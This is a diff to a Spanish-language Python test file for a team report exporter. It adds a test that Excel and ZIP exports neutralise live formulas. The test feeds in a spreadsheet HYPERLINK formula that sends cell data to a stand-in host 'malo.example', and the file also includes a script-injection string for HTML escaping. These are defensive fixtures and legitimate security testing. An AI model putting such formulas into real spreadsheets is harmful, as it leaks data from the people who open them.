@@ -12,6 +12,7 @@ from analisis import competencias as c
 from analisis import informes
 from analisis.formato import porcentaje
 from datos import demo
+from datos.cuentas import exportar
 from datos.consultas.competencias import (estandar_competencias, puntajes_auditorias, puntajes_competencias,
                                           resultados_por_agente, temas_capacitacion)
 from datos.consultas.filtros import Filtros, ventana_de_meses
@@ -63,7 +64,7 @@ def test_informe_de_equipo_en_html_con_sus_cifras(datos):
 
 def test_informe_de_equipo_en_excel(datos):
     informe = informes.informe_equipo(datos, "Equipo Caribe")
-    libro = load_workbook(io.BytesIO(informes.a_excel(informe)))
+    libro = load_workbook(io.BytesIO(exportar.libro(informes.libro_excel(informe))))
     assert libro.sheetnames == ["Resumen", "Competencias", "Progreso", "Plan", "Agentes"]
     assert libro["Resumen"]["A1"].value == "Informe de realimentación · Equipo Caribe"
     hoja = libro["Competencias"]
@@ -100,7 +101,7 @@ def test_no_se_muestran_cifras_bajo_el_minimo(datos):
 
 
 def test_zip_con_todos_los_equipos(datos):
-    archivo = zipfile.ZipFile(io.BytesIO(informes.zip_de_informes(informes.informes_de_equipos(datos))))
+    archivo = zipfile.ZipFile(io.BytesIO(exportar.a_zip(informes.archivos_de_informes(informes.informes_de_equipos(datos)))))
     nombres = sorted(archivo.namelist())
     assert len(nombres) == 2 * len(demo.EQUIPOS)
     assert "informe_equipo_pacifico.html" in nombres and "informe_equipo_pacifico.xlsx" in nombres
@@ -112,6 +113,20 @@ def test_el_html_escapa_los_textos_de_los_datos(datos):
     raro = informes.Informe(**{**informe.__dict__, "titulo": "<script>alert(1)</script>"})
     assert "<script>" not in informes.a_html(raro)
     assert informes.nombre_de_archivo("¿Ñandú / Sur?") == "nandu_sur"
+
+
+def test_el_excel_y_el_zip_no_llevan_formulas_vivas(datos):
+    informe = informes.informe_equipo(datos, "Equipo Andes")
+    agentes = informe.agentes.assign(Agente='=HYPERLINK("http://malo.example/?d="&A1,"Ver")')
+    plan = informe.plan.assign(Temas="=1+2")
+    hostil = informes.Informe(**{**informe.__dict__, "titulo": "@SUMA(1+1)", "agentes": agentes, "plan": plan})
+    comprimido = zipfile.ZipFile(io.BytesIO(exportar.a_zip(informes.archivos_de_informes([hostil]))))
+    libro = load_workbook(io.BytesIO(comprimido.read("informe_equipo_andes.xlsx")))
+    celdas = [celda for hoja in libro.worksheets for fila in hoja.iter_rows() for celda in fila]
+    assert not [c.coordinate for c in celdas if c.data_type == "f"]
+    textos = {c.value for c in celdas if isinstance(c.value, str)}
+    assert {"'=1+2", "'@SUMA(1+1)", "'" + agentes["Agente"].iloc[0]} <= textos
+    assert not [t for t in textos if t.startswith(("=", "+", "-", "@"))]
 
 
 def test_tablas_en_espanol(datos):
